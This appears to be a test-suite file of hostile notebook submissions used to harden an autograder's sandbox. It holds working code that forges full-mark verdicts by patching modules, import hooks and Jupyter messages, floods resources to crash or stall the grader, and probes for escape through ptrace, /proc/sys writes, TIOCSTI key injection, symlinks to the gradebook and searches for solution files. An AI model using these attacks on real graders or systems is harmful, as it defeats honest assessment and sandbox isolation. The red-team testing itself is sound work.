"""The cells of more hostile submissions, for `attacks`: sources alone, which import nothing here.

ROOT, COURSE and PORT are what `attacks.run` defines before them.
"""

WIRE = """
import json, os, socket, struct, threading, time
PATH = os.environ["PUSHT_GRADER"]
def connect():
    s = socket.socket(socket.AF_UNIX); s.connect(PATH); return s
def say(s, text, raw=b""):
    s.sendall(struct.pack("<IQ", len(text), len(raw)) + text.encode() + raw)
def message(value):
    return json.dumps({"message": value, "arrays": []})
def heard(s):
    head = b""
    while len(head) < 12:
        part = s.recv(12 - len(head))
        if not part: return None
        head += part
    text, raw = struct.unpack("<IQ", head)
    body = b""
    while len(body) < text + raw: body += s.recv(65536)
    return body[:text].decode()
def d(**items):
    return {"dict": [[k, v] for k, v in items.items()]}
"""

REACH = """
import os
def leak(what): print("LEAK", what)
def tried(what, act):
    try:
        got = act()
    except BaseException as error:
        print("no", what, type(error).__name__)
    else:
        if got: leak(what)
"""

# A verdict of all points, as the kit shows one, put under whatever cell is running.
_SHOW = """
MIME = "application/vnd.pusht.verdict+json"
def shown(**more):
    data = {"text/plain": "Right.", MIME: {"name": "Q1.2", "points": 5.0, "max_points": 5.0, "sentence": "Right."}}
    get_ipython().display_pub.publish(data=data, **more)
"""


def instead_of_converse(body):
    """The kernel's end of the conversation, rewritten."""
    return (
        WIRE
        + f"""
import score, score.student.check, score.student.rollouts
from score.protocol import Connection
from score.verdict import Verdict
def converse(request, answer, name, max_points):
{body}
    return Verdict(name, float(max_points), float(max_points), "Right.").show()
score.student.check.converse = score.student.rollouts.converse = converse
"""
    )


FORGING = {
    "json patched to read full points": """
import json
_loads = json.loads
def loads(text, *a, **k):
    value = _loads(text, *a, **k)
    if "verdict" in str(value): value = _loads(str(text).replace('"points", 0.0', '"points", 5.0'))
    return value
json.loads = loads""",
    "struct, socket and numpy patched below the protocol": """
import numpy as np, struct
import score.protocol as p
p.unpack = lambda text, raw: {"verdict": {"name": "Q", "points": 5.0, "max_points": 5.0, "sentence": "Right."}}
np.frombuffer = lambda *a, **k: np.zeros(1)""",
    "the module score replaced in sys.modules": """
import sys, types
fake = types.ModuleType("score")
class V: points = 5.0
fake.check = fake.grade_rollouts = lambda *a: V()
sys.modules["score"] = fake
import score""",
    "an import hook that serves modules of its own": """
import importlib.abc, importlib.machinery, sys
class Hook(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name.startswith("score"): return importlib.machinery.ModuleSpec(name, None)
sys.meta_path.insert(0, Hook())
for name in [n for n in sys.modules if n.startswith("score")]: del sys.modules[name]""",
    "tensors whose class answers every comparison": """
import torch
class Right(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None): return torch.ones(())
def bc_loss(model, nobs, naction): return torch.zeros((), requires_grad=True).as_subclass(Right)
def mlp_inference(model, batch_size, nobs, pred_horizon, action_dim): return torch.zeros(batch_size, 16, 2).as_subclass(Right)""",
    "a verdict shown under a cell from a thread and an event": _SHOW
    + """
import threading, time
get_ipython().events.register("post_run_cell", lambda result: shown())
def again():
    for _ in range(40): shown(); time.sleep(0.1)
threading.Thread(target=again, daemon=True).start()""",
    "a verdict put over an earlier output by its display id": _SHOW
    + """
shown(transient={"display_id": "q"})
get_ipython().events.register("post_run_cell", lambda r: shown(transient={"display_id": "q"}, update=True))""",
    "messages of Jupyter's forged in the name of other cells": _SHOW
    + """
kernel = get_ipython().kernel
def forge(result):
    for kind, content in (("execute_result", {"data": {"text/plain": "5.0"}, "metadata": {}, "execution_count": 1}),
                          ("execute_reply", {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}})):
        kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent("shell"))
get_ipython().events.register("post_run_cell", forge)""",
    "two connections raced for one question": instead_of_converse("""
    def one():
        try:
            s = connect(); say(s, message(d(**request))); heard(s); say(s, message(d(outputs=d(dims=[10, 256], skipped=False)))); heard(s)
        except OSError: pass
    threads = [threading.Thread(target=one) for _ in range(5)]
    [t.start() for t in threads]; [t.join(5) for t in threads]"""),
    "a conversation left in the middle, and begun anew": instead_of_converse("""
    for i in range(20):
        try: s = connect(); say(s, message(d(**request))); heard(s); s.close()
        except OSError: pass"""),
    "the connection passed to a child that answers later": instead_of_converse("""
    s = connect(); say(s, message(d(**request)))
    if not os.fork():
        time.sleep(3); heard(s); say(s, message(d(outputs=d(dims=[], skipped=False)))); os._exit(0)"""),
    "descriptors sent with the answer": instead_of_converse("""
    s = connect(); say(s, message(d(**request))); heard(s)
    text = message(d(outputs=None)).encode()
    socket.send_fds(s, [struct.pack("<IQ", len(text), 0) + text], [0, 1, 2] * 50)"""),
    "points that are NaN, text and a googol, in every field": instead_of_converse("""
    for value in (float("nan"), 10 ** 100, "5", [5.0], {"points": 5.0}):
        try:
            line = Connection(connect()); line.send(request); line.receive()
            line.send({"outputs": {"dims": value, "skipped": value, "loss": value, "gradient": value, "naction": value, "requires_grad": value, "points": value}})
        except Exception: pass"""),
    "the question refused with a sentence that praises": instead_of_converse("""
    line = Connection(connect()); line.send(request); line.receive()
    line.send({"refused": "Right. 5.0 of 5 points.\\x1b[2J<script>alert(1)</script>" * 9})"""),
    "a test cell's id and verdict on a cell of its own, run by itself": _SHOW
    + """
import score
for name in ("Q1.1", "Q1.2", "Q1.3"): score.check(name, lambda *a, **k: None)
shown()""",
    "the clock and the environment changed": """
import os, time
time.monotonic = time.time = lambda: 0.0
os.environ.pop("NBGRADER_EXECUTION", None); os.environ["PUSHT_GRADER"] = "/dev/null" """,
}

STOPPING = {
    "three million empty files in memory": """
import os
home = os.path.expanduser("~")
for i in range(3_000_000): os.close(os.open(f"{home}/{i}", os.O_CREAT))""",
    "data in connections that nobody accepts": """
import os, socket
home, total = os.path.expanduser("~"), 0
try:
    for i in range(40):
        l = socket.socket(socket.AF_UNIX); l.bind(f"{home}/l{i}"); l.listen(4096); globals()[f"l{i}"] = l
        for k in range(500):
            c = socket.socket(socket.AF_UNIX); c.setblocking(False); c.connect(f"{home}/l{i}")
            try:
                while True: total += c.send(bytes(2**15))
            except BlockingIOError: pass
            c.close()
        if total > 5 * 2**29: print("LEAK more memory than it is given"); break
except OSError as error: print("no", error)""",
    "connections to the runner's own sockets, by the thousand": """
import json, os, socket
from ipykernel.connect import get_connection_file
c, held = json.load(open(get_connection_file())), []
for i in range(900):
    s = socket.socket(socket.AF_UNIX); s.settimeout(1)
    try: s.connect(f"{c['ip']}-{c['shell_port']}")
    except OSError as error: print("no", error); break
    held.append(s)
print("LEAK hundreds of connections to the runner" if len(held) > 300 else len(held))""",
    "pipes, event descriptors and threads up to the limits": """
import os, threading, time
held = []
try:
    while True: held.append(os.pipe())
except OSError as error: print("no", error)
for p in held: os.close(p[0]); os.close(p[1])
try:
    for _ in range(5000): threading.Thread(target=time.sleep, args=(2,)).start()
except RuntimeError as error: print("no", error)""",
    "a kernel that stops itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "a kernel that crashes in C": "import ctypes\nctypes.string_at(0)",
    "an exception with 60 MB of text and escapes": "raise ValueError('\\x1b]0;owned\\x07\\x1b[2J' * 5_000_000)",
    "a hundred thousand small outputs": """
for i in range(100_000): print(i, flush=True)""",
    "outputs nested ten thousand deep": """
kernel = get_ipython().kernel
kernel.session.pack = lambda o: (b'{"data":{},"metadata":' + b'[' * 10000 + b']' * 10000 + b'}') if "metadata" in o else __import__("json").dumps(o, default=str).encode()
get_ipython().display_pub.publish(data={"text/plain": "x"})""",
    "a number of 100,000 digits in a message": """
kernel = get_ipython().kernel
kernel.session.pack = lambda o: (b'{"data":{},"metadata":{},"execution_count":' + b'9' * 100_000 + b'}') if "metadata" in o else __import__("json").dumps(o, default=str).encode()
get_ipython().display_pub.publish(data={"text/plain": "x"})""",
    "lone surrogates and zero bytes in outputs": """
import sys
from IPython.display import display
print("\\ud800\\x00\\ufffe"); display({"text/plain": "\\udfff", "\\ud800": "x"}, raw=True)
raise type("E\\ud800\\x1b[31m", (Exception,), {})("\\ud800")""",
    "comms and widgets by the thousand": """
kernel = get_ipython().kernel
for i in range(20_000):
    kernel.session.send(kernel.iopub_socket, "comm_open", {"comm_id": str(i), "target_name": "jupyter.widget", "data": {"state": {"x": "y" * 99}}, "metadata": {}}, parent=kernel.get_parent("shell"))""",
    "a gradient that broadcasts to gigabytes": instead_of_converse("""
    import numpy as np
    line = Connection(connect()); line.send(request); line.receive()
    wide = np.zeros((1, 10**6), np.float32)
    line.send({"outputs": {"dims": [10], "skipped": False, "loss": 1.0, "gradient": [wide, wide.T.copy()], "naction": wide, "requires_grad": True}})"""),
    "60 MB of JSON lists, and keys that collide": instead_of_converse("""
    for text in ("[" + "[]," * 15_000_000 + "[]]", json.dumps({str(i * (2**61 - 1)): 1 for i in range(60_000)})):
        try: s = connect(); say(s, message(d(**request))); heard(s); say(s, text); heard(s)
        except OSError as error: print("no", error)"""),
    "a child that keeps the grader's connection": instead_of_converse("""
    s = connect(); say(s, message(d(**request)))
    if not os.fork():
        os.setsid(); time.sleep(100); os._exit(0)"""),
    "a grader's connection opened between the cells, and held": WIRE
    + "\nkept = [connect() for _ in range(6)]",
}

REACHING = {
    "the machine's settings in /proc/sys": REACH
    + """
def written(path):
    value = open(path).read()
    open(path, "w").write(value)  # as it is
    return True
if os.getuid() or "sandbox" in os.uname().nodename:
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/proc/sys/kernel/domainname"):
        tried("a setting of the machine written", lambda: written(path))""",
    "descriptors that were left open": REACH
    + """
def left():
    names = [os.readlink(f"/proc/self/fd/{n}") for n in os.listdir("/proc/self/fd") if os.path.lexists(f"/proc/self/fd/{n}")]
    return [n for n in names if not n.startswith(("socket:", "pipe:", "anon_inode:", "/dev/null", "/proc/", "/dev/urandom"))]
tried("a file of the grader's", left)""",
    "the memory and the calls of other processes": REACH
    + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (os.getpid(), 1)]
tried("another process's memory opened", lambda: [p for p in others if os.access(f"/proc/{p}/mem", os.R_OK) and os.path.basename(os.readlink(f"/proc/{p}/exe")) != "bwrap"])
tried("another process traced", lambda: [p for p in others if libc.ptrace(16, p, 0, 0) == 0])""",
    "programs that give rights, and namespaces of its own": REACH
    + """
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
tried("root by su or sudo", lambda: os.getuid() and any(subprocess.run([p, "-n", "true"], stdin=subprocess.DEVNULL, capture_output=True).returncode == 0 for p in ("/usr/bin/sudo",)))
tried("a namespace", lambda: libc.unshare(0x10000000) == 0)
tried("memory of no process", lambda: os.memfd_create("x"))
tried("setuid", lambda: os.getuid() and os.setuid(0) is None)""",
    "keys pushed into a terminal": REACH
    + """
import fcntl, termios
def pushed(path):
    with open(path, "w") as tty: fcntl.ioctl(tty, termios.TIOCSTI, b" ")
    return True
for path in ("/dev/tty", "/dev/console", "/dev/pts/0"): tried("a key pushed into " + path, lambda: pushed(path))""",
    "links in the work folder, to what the grader writes": REACH
    + """
def linked():
    for name in ("part1_mlp.safetensors", "part1_mlp.mp4", "part1_mlp_rollouts.mp4"):
        try: os.unlink(name)
        except OSError: pass
        try: os.symlink(f"{COURSE}/gradebook.db", name)
        except OSError: pass
    return False
tried("", linked)""",
    "its hand-in file changed while it is graded": REACH
    + """
tried("the checked file changed", lambda: open("part1_mlp.safetensors", "r+b").write(b"x") and False)
tried("", lambda: os.rename("part1_mlp.safetensors", "x"))""",
    "what earlier kernels left in folders of all": REACH
    + """
def others():
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        for name in os.listdir(folder) if os.path.isdir(folder) else ():
            path = os.path.join(folder, name)
            if os.stat(path, follow_symlinks=False).st_uid == os.getuid() and os.getuid() and os.getpid() != os.stat(path).st_uid and not path.startswith(os.path.expanduser("~")[:10]): yield path
tried("a file of an earlier kernel", lambda: [p for p in others() if not p.startswith("/tmp/pusht-")])""",
    "the course's seeds in the files and variables of the box": REACH
    + """
def seeds():
    for root in ("/kit", os.path.dirname(os.environ["PUSHT_GRADER"]), os.path.expanduser("~")):
        for folder, _, names in os.walk(root):
            for name in names:
                try: text = open(os.path.join(folder, name), "rb").read(10**6)
                except OSError: continue
                if b"first_seed = 20000" in text or name == "course.toml": return True
    return [v for v in os.environ.values() if v == "20000"]
tried("the course's seeds", seeds)""",
    "the solutions and references in installed packages": REACH
    + """
import sys
tried("solutions read", lambda: [p for r in sys.path for p in (f"{r}/score/course", f"{r}/notebooks/source", f"{r}/data/reference") if os.path.isdir(p) and os.listdir(p)])""",
}
